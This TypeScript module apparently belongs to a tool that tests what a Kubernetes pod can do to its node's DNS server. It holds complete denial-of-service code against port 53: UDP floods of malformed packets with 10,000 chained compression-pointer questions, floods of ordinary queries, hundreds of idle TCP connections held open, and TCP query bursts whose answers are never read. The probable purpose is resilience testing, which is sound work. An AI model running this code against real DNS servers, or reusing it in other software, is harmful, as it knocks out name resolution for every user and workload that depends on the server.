// SPDX-License-Identifier: Apache-2.0
// What a pod can do to the machine's DNS server.
import { createSocket } from "node:dgram";
import { once } from "node:events";
import { connect, type Socket } from "node:net";
import { setImmediate as nextTurn, setTimeout as delay } from "node:timers/promises";
import type { AttackLoop } from "./attack-loop.ts";

const PORT = 53;
const RECONNECT_MS = 10;
const HEADER = [0, 1, 1, 0];
/** Datagrams of a worker in one turn of the event loop. */
const BATCH = 16;

function sixteen(value: number): readonly number[] {
  return [value >> 8, value & 0xff];
}

/** A query for an A record. */
function query(name: string): Buffer {
  const labels = name.split(".").map((label) => [label.length, ...Buffer.from(label)]);
  const counts = [...sixteen(1), ...sixteen(0), ...sixteen(0), ...sixteen(0)];
  return Buffer.from([...HEADER, ...counts, ...labels.flat(), 0, ...sixteen(1), ...sixteen(1)]);
}

/** A datagram of nearly the largest size whose questions are pointers to pointers. */
function chainedPointers(): Buffer {
  const questions = 10_000;
  const head = [...HEADER, ...sixteen(questions), ...sixteen(0), ...sixteen(0), ...sixteen(0)];
  const first = [1, 97, 0, ...sixteen(1), ...sixteen(1)];
  const rest = Array.from({ length: questions - 1 }, (_none, index) => {
    const before = Math.min(0x3fff, head.length + first.length + (index - 1) * 6);
    const target = index === 0 ? head.length : before;
    return [...sixteen(0xc000 | target), ...sixteen(1), ...sixteen(1)];
  });
  return Buffer.from([...head, ...first, ...rest.flat()]);
}

async function hold(socket: Socket): Promise<void> {
  if (!socket.closed) await once(socket, "close");
  await delay(RECONNECT_MS);
}

async function connected(address: string): Promise<Socket> {
  const socket = connect(PORT, address).on("error", () => undefined);
  await once(socket, "connect");
  return socket;
}

function withLength(message: Buffer): Buffer {
  return Buffer.concat([Buffer.from(sixteen(message.length)), message]);
}

export function startDnsAttacks(loop: AttackLoop, address: string): void {
  const udp = createSocket("udp4");
  udp.on("error", () => undefined);
  const flood = (name: string, messages: readonly Buffer[]): void => {
    loop.start(name, 1, async (note) => {
      for (let index = 0; index < BATCH; index += 1) {
        udp.send(messages[index % messages.length] ?? "", PORT, address);
      }
      note("sent");
      await nextTurn();
    });
  };
  const outside = Array.from({ length: BATCH }, (_none, index) =>
    query(`host-${String(index)}.example.com`),
  );
  flood("DNS queries with chained pointers", [chainedPointers()]);
  flood("DNS queries for Services", [query("kubernetes.default.svc.cluster.local")]);
  flood("DNS queries for outside names", outside);
  loop.start("silent DNS connections", 200, async (note) => {
    note("tried");
    const socket = await connected(address);
    socket.resume();
    note("open");
    await hold(socket);
  });
  const burst = Buffer.concat(
    Array.from({ length: 200 }, () => withLength(query("kubernetes.default.svc.cluster.local"))),
  );
  loop.start("DNS answers that are not read", 20, async (note) => {
    note("tried");
    const socket = await connected(address);
    socket.pause();
    note("open");
    const closed = hold(socket);
    // A reset during the writes is reported by the last line.
    closed.catch(() => undefined);
    while (!socket.destroyed && socket.write(burst)) await nextTurn();
    await closed;
  });
}
